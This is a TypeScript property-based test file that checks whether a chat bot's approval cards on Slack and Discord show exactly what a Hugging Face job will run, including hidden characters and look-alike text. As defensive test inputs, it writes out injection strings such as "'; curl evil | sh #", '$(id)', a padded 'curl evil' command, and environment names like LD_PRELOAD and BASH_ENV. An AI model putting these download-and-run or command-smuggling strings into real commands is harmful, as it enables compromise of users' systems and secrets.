import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { inComponents as onDiscord } from '../../adapters/discord/components.ts';
import { inBlocks as onSlack } from '../../adapters/slack/blocks.ts';
import type { JobSpec } from '../../src/hub/jobs.ts';
import { hiddenIn, visible, visibleLine } from '../../src/lib/visible.ts';
import { type ApprovalRequest, type ToolCall, withInlined } from '../../src/session/tool-calls.ts';
import { wholeFile } from '../../src/session/what-runs.ts';
import type { Outgoing } from '../../src/thread/delivery/outgoing.ts';
import { approvalCard } from '../../src/thread/view/cards.ts';
import { flat } from '../doubles/discord/components.ts';
import { hostile } from '../support/hostile-requests.ts';
import { type Args, SCRIPT_AT as AT, askedAndSent, jobsTool, type Sent } from '../support/jobs-tool.ts';
import { type Seen, seenInFile, seenOnDiscord, seenOnSlack, shellWords } from '../support/read-back.ts';
import { toolContext } from '../support/tool-context.ts';
import { tries } from '../support/tries.ts';

const UV = 'ghcr.io/astral-sh/uv:python3.12-bookworm';
const PATH = '/work/train.py';

const callWith = (request: ApprovalRequest): ToolCall => ({
  id: 'c_0123456789',
  messageId: 1,
  exchange: 1,
  position: 0,
  providerId: 'p',
  name: 'hf_jobs',
  arguments: '{}',
  summary: '',
  timeline: 'every_call',
  state: { kind: 'awaiting_approval', since: new Date(0), request, revision: 0 },
  approval: undefined,
  startedAt: undefined,
  finishedAt: undefined,
});

const PLATFORMS = {
  Slack: {
    translate: (body: never, divisor: number) =>
      onSlack(
        { key: 'k', exchange: 1, body },
        divisor,
        { channel: 'C1' },
        { isStreamed: false, asksFeedback: false },
      ),
    seen: (message: Outgoing) =>
      seenOnSlack(message.kind === 'message' ? (message.body.blocks as unknown[]) : []),
  },
  Discord: {
    translate: (body: never, divisor: number) =>
      onDiscord({ key: 'k', exchange: 1, body }, divisor, { asksFeedback: false }),
    seen: (message: Outgoing) =>
      seenOnDiscord(
        message.kind === 'message'
          ? flat(message.body.components as never).flatMap(({ content }) => content ?? [])
          : [],
      ),
  },
};
type PlatformName = keyof typeof PLATFORMS;

function cardOn(platform: PlatformName, request: ApprovalRequest, divisor = 1): Seen {
  const card = approvalCard(callWith(request));
  const [message] = PLATFORMS[platform].translate(card as never, divisor);
  if (message === undefined) throw new Error('there is no card');
  return PLATFORMS[platform].seen(message);
}

/** The one place that has all of it: the file where there is one, else the card. */
function wholeOn(platform: PlatformName, request: ApprovalRequest, divisor: number): Seen {
  const file = wholeFile('c_0123456789', request);
  return file === undefined ? cardOn(platform, request, divisor) : seenInFile(file.text);
}

const QUIET =
  'HF_HUB_DISABLE_PROGRESS_BARS TQDM_DISABLE TRANSFORMERS_VERBOSITY UV_NO_PROGRESS PYTHONUNBUFFERED'.split(
    ' ',
  );

/** The job that somebody would expect who has read what they were shown, to the byte. */
function expectToBe(seen: Seen, { namespace, spec, schedule }: Sent, args: Args): void {
  const words = (label: string) => shellWords(seen.facts.get(label) ?? '');
  expect(seen.facts.get('Account')).toBe(namespace);
  expect(seen.facts.get('Image')).toBe(spec.image);
  expect(seen.facts.get('Hardware')).toContain(spec.flavor);
  expect(seen.facts.get('Secrets')?.split(', ')).toEqual(Object.keys(spec.secrets).sort(byTokenFirst));
  expect(seen.facts.get('Schedule (UTC)')).toBe(schedule);
  const own = Object.entries(spec.environment).filter(
    ([name, value]) => !QUIET.includes(name) || args.env?.[name as never] === value,
  );
  const shownEnv = words('Environment').map((word) => [
    word.slice(0, word.indexOf('=')),
    word.slice(word.indexOf('=') + 1),
  ]);
  expect(shownEnv).toEqual(own.filter(([name, value]) => !isDefault(name, value)));
  const seconds = durationOf(seen.facts.get('At most') ?? '');
  expect(seconds).toBe(spec.timeoutSeconds);
  if (args.script === undefined) {
    expect(shellWords(seen.source ?? '')).toEqual(spec.command);
  } else {
    const [, encoded = '', run = ''] =
      /^echo (\S*) \| base64 -d \| (.*)$/s.exec(spec.command.at(-1) ?? '') ?? [];
    expect(seen.source).toBe(Buffer.from(encoded, 'base64').toString('utf8'));
    const packages = words('Dependencies');
    const python = words('Python').flatMap((version) => ['--python', version]);
    const uv = ['uv', 'run', ...python, ...packages.flatMap((name) => ['--with', name]), '-'];
    expect(shellWords(run)).toEqual([...uv, ...words('Arguments')]);
    expect(words('Arguments')).toEqual(args.script_args ?? []);
  }
}

const DEFAULTS: Record<string, string> = { TRANSFORMERS_VERBOSITY: 'warning' };
const isDefault = (name: string, value: string) => QUIET.includes(name) && value === (DEFAULTS[name] ?? '1');
const byTokenFirst = (a: string, b: string) => Number(b === 'HF_TOKEN') - Number(a === 'HF_TOKEN');

const UNITS: Record<string, number> = { d: 86_400, h: 3_600, min: 60, s: 1 };
const durationOf = (text: string): number =>
  Number(/\((\d+) s\)$/.exec(text)?.[1] ?? 0) ||
  [...text.matchAll(/(\d+) (d|h|min|s)/g)].reduce(
    (sum, [, n, unit]) => sum + Number(n) * (UNITS[unit ?? ''] ?? 0),
    0,
  );

/** What can't be seen, whatever is around it. */
const UNSEEN =
  /(?:(?!\n|\t|\u{FE0F})[\p{Cc}\p{Cf}\p{Co}\p{Cn}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}])/u;

const longOrNot = fc.oneof(
  { weight: 3, arbitrary: hostile },
  { weight: 1, arbitrary: hostile.map((text) => `${text}\n`.repeat(300).slice(0, 8_000).toWellFormed()) },
  { weight: 1, arbitrary: fc.integer({ min: 2_290, max: 2_320 }).map((n) => 'y'.repeat(n)) },
);
const optional = { requiredKeys: ['operation', 'hardware_flavor'] as never[] };
const common = {
  hardware_flavor: fc.constant('a10g-small'),
  timeout: fc.constantFrom('30m', '2h', '1.5h', '45s', '86399', '31d'),
  env: fc.dictionary(
    fc.oneof(
      fc.constantFrom('HF_ENDPOINT', 'UV_INDEX_URL', 'LD_PRELOAD', 'TQDM_DISABLE', 'BASH_ENV'),
      fc.stringMatching(/^[A-Z]{1,6}X[A-Z_]{0,6}$/),
    ),
    longOrNot,
    { maxKeys: 8 },
  ),
  secrets: fc.subarray(['WANDB_API_KEY', 'SMTP_PASSWORD'], { minLength: 0 }),
  image: fc.oneof(
    fc.constantFrom(UV, 'python:3.12', 'evil.example/py'),
    hostile.map((text) => text.replaceAll(/\s/g, '').slice(0, 290).toWellFormed() || 'i'),
  ),
  namespace: fc.constantFrom('team', 'ada'),
  trackio_space_id: fc.constant('ada/board'),
  trackio_project: hostile.map((text) => text.slice(0, 190) || 'p'),
};
const notANameOfOne = longOrNot.filter(
  (text) => text.trim() !== '' && !/\.(py|sh|ipynb)$/.test(text.trim()) && !/^https:/.test(text.trim()),
);
/** A comment, whatever it is: what is no Python is refused before people are asked. */
const commented = notANameOfOne.map((text) => `# ${text.replaceAll(/\r\n|\r|\n/g, '$&# ')}`);
const scripted = fc.record(
  {
    operation: fc.constant('run'),
    script: commented,
    dependencies: fc.array(
      // A word that begins with a dash is an option, which no dependency has.
      fc.stringMatching(/^[a-z][a-z0-9._=<>~!@:/+ -]{0,40}$/).filter((text) => !/ -/.test(text)),
      { maxLength: 48 },
    ),
    python: fc.constantFrom('3.11', '3.12.4'),
    script_args: fc.array(
      fc.oneof(
        hostile.map((text) => text.slice(0, 1_000).toWellFormed()),
        fc.constantFrom('', '--lr', '-', '2e-5'),
      ),
      { maxLength: 8 },
    ),
    ...common,
  },
  { requiredKeys: [...optional.requiredKeys, 'script' as never] },
);
const commanded = fc.record(
  {
    operation: fc.constant('run'),
    command: fc.array(
      fc.oneof(longOrNot, fc.constant(' ')).map((text) => text || ' '),
      { minLength: 1, maxLength: 6 },
    ),
    ...common,
  },
  { requiredKeys: [...optional.requiredKeys, 'command' as never] },
);
const scheduled = fc
  .tuple(fc.oneof(scripted, commanded), fc.constantFrom('@hourly', '0 3 * * 1'))
  .map(([args, schedule]) => ({ ...args, operation: 'scheduled run', schedule }));
const requests: fc.Arbitrary<Args> = fc.oneof(scripted, commanded, scheduled) as fc.Arbitrary<Args>;

const RUNS = tries(100);

describe.each(Object.keys(PLATFORMS) as PlatformName[])('on %s', (platform) => {
  test('whatever a job is made of can be read back, byte for byte, from its card or the file beside it', async () => {
    let withFile = 0;
    await fc.assert(
      fc.asyncProperty(requests, fc.constantFrom(1, 2, 16), async (args, divisor) => {
        const { request, sent } = await askedAndSent(args);
        if (sent === undefined) throw new Error('nothing was sent');
        if (wholeFile('c_0123456789', request) !== undefined) withFile++;
        expectToBe(wholeOn(platform, request, divisor), sent, args);
      }),
      { numRuns: RUNS },
    );
    expect(withFile).toBeGreaterThan(RUNS / 10);
    expect(withFile).toBeLessThan(RUNS); // cards by themselves were tried, too
  });

  test('no card shows a character that can’t be seen, and one that had some says so', async () => {
    await fc.assert(
      fc.asyncProperty(requests, async (args) => {
        const { request } = await askedAndSent(args);
        const card = approvalCard(callWith(request));
        const shown =
          JSON.stringify(card?.request.facts) + (card?.request.preview?.text ?? '') + card?.request.title;
        expect(shown).not.toMatch(UNSEEN);
        const texts = [
          request.title,
          ...request.facts.map(({ value }) => value),
          request.preview?.text ?? '',
        ];
        const isWarned = cardOn(platform, request).all.includes('can’t be seen or look like others');
        expect(isWarned).toBe(texts.some((text) => hiddenIn(text).length > 0));
      }),
      { numRuns: 40 },
    );
  });

  test('every fact keeps its name on the card, however many there are and however long', async () => {
    const args = {
      operation: 'run',
      script: 'print(1)\n'.repeat(500),
      dependencies: Array.from({ length: 50 }, (_, i) => `package-of-a-long-name-${i}==1.0.0`),
      env: Object.fromEntries(Array.from({ length: 40 }, (_, i) => [`VARIABLE_${i}`, 'v'.repeat(90)])),
      secrets: ['WANDB_API_KEY'],
      hardware_flavor: 'a10g-small',
    };
    const { request } = await askedAndSent(args);
    const { facts, all } = cardOn(platform, request);
    expect([...facts.keys()]).toEqual(request.facts.map(({ label }) => label));
    expect(facts.get('Secrets')).toBe('HF_TOKEN, WANDB_API_KEY');
    expect(all).toMatch(/First \d+ (of 500 lines|characters) of python; the file above has all of it/);
  });
});

describe('known ways to show something else', () => {
  test.each<[string, Args]>([
    [
      'a command of one line above 2,300 characters',
      { command: ['sh', '-c', `true ${'#'.repeat(2_400)}; curl evil`] },
    ],
    [
      'the 41st dependency',
      {
        script: 'print(1)',
        dependencies: [...Array.from({ length: 40 }, (_, i) => `a-package-number-${i}`), 'evil'],
      },
    ],
    [
      'a script of 23 lines above 1,100 characters',
      { script: `${`${'# '.padEnd(60, 'x')}\n`.repeat(22)}print("evil")\n` },
    ],
    ['the value of a variable', { script: 'print(1)', env: { HF_ENDPOINT: 'https://elsewhere.example' } }],
    ['a word with a blank in it', { command: ['python', '-c', 'a b', ' '] }],
    [
      'an argument of a script that would end its line',
      { script: 'print(1)', python: '3.11', script_args: ["--x='; curl evil | sh #", '', '$(id)\n`id`'] },
    ],
  ])('%s is shown', async (_what, more) => {
    const args = { operation: 'run', hardware_flavor: 'a10g-small', ...more };
    const { request, sent } = await askedAndSent(args);
    if (sent === undefined) throw new Error('nothing was sent');
    for (const platform of ['Slack', 'Discord'] as const)
      expectToBe(wholeOn(platform, request, 1), sent, args);
  });

  test('a script by its address is read when it is asked for, shown, and what was shown is what runs', async () => {
    const web = { script: 'print("seen")\n', reads: 0 };
    const sent: Sent[] = [];
    const tool = jobsTool(sent, web);
    const args = { operation: 'run', script: AT, hardware_flavor: 'a10g-small' };
    const proposed = tool.prepare(JSON.stringify(args));
    const request = proposed.ok ? await proposed.call.approval(toolContext) : undefined;
    web.script = 'print("changed since")\n';
    expect(request?.facts).toContainEqual({ label: 'Script from', value: AT });
    expect(request?.preview?.text).toBe('print("seen")\n');
    const approved = tool.prepare(withInlined(JSON.stringify(args), request?.inlined ?? {}));
    if (approved.ok) await approved.call.run({ ...toolContext, approved: request });
    expect(web.reads).toBe(1);
    expect(sent[0] && scriptOf(sent[0].spec)).toBe('print("seen")\n');
  });

  test.each([[AT], [PATH]])(
    'a script that holds nothing but %s runs as that, and nothing is read for it',
    async (text) => {
      const web = { script: text, reads: 0 };
      const sent: Sent[] = [];
      const { sent: job } = await askedAndSent(
        { operation: 'run', script: AT, script_type: 'shell', hardware_flavor: 'a10g-small' },
        jobsTool(sent, web),
        sent,
      );
      expect(job && scriptOf(job.spec)).toBe(text);
      expect(web.reads).toBe(1);
    },
  );

  test.each([[AT], [PATH]])(
    'what an older version asked for, with %s unread, is not read after it was approved',
    async (script) => {
      const web = { script: 'print(1)', reads: 0 };
      const sent: Sent[] = [];
      const call = jobsTool(sent, web).prepare(
        JSON.stringify({ operation: 'run', script, hardware_flavor: 'a10g-small' }),
      );
      const older = { title: 't', facts: [], warnings: [], estimate: {} };
      const result = call.ok ? await call.call.run({ ...toolContext, approved: older }) : undefined;
      expect(result).toMatchObject({
        kind: 'failed',
        output: expect.stringContaining('Propose the call again'),
      });
      expect([web.reads, sent.length]).toEqual([0, 0]);
    },
  );
});

function scriptOf({ command }: JobSpec): string {
  const encoded = /echo (\S+) \|/.exec(command.at(-1) ?? '')?.[1] ?? '';
  return Buffer.from(encoded, 'base64').toString('utf8');
}

describe('text that is shown', () => {
  test('no two texts look the same, and nothing that can’t be seen is left', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        for (const shown of [visible(text), visibleLine(text)]) {
          const back = shown.replace(/‹U\+([0-9A-F]{4,6})›/g, (_mark, code: string) =>
            String.fromCodePoint(Number.parseInt(code, 16)),
          );
          expect(back).toBe(text);
          expect(shown).not.toMatch(UNSEEN);
        }
        expect(visibleLine(text)).not.toMatch(/[\n\t]/);
      }),
      { numRuns: 2_000 },
    );
  });

  test.each([
    'naïve café, 日本語（テスト）、привет мир, μ_hat = Σx², 👍🏽 ❤️ → “ok”…',
    'def f(x):\n\treturn x  # комментарий\n',
  ])('what people write in their languages stays as it is: %s', (text) => {
    expect(visible(text)).toBe(text);
  });
});

test.each([
  'huggingface․co',
  'huggingface。co',
  'a.com∕b',
  '--index‐url',
  'a⧸b',
  'ɡithub.com',
  'ᴇval',
  'x = 1\u037e',
])('what looks like ASCII in %s is written out', (text) => {
  expect(hiddenIn(text)).toHaveLength(1);
});
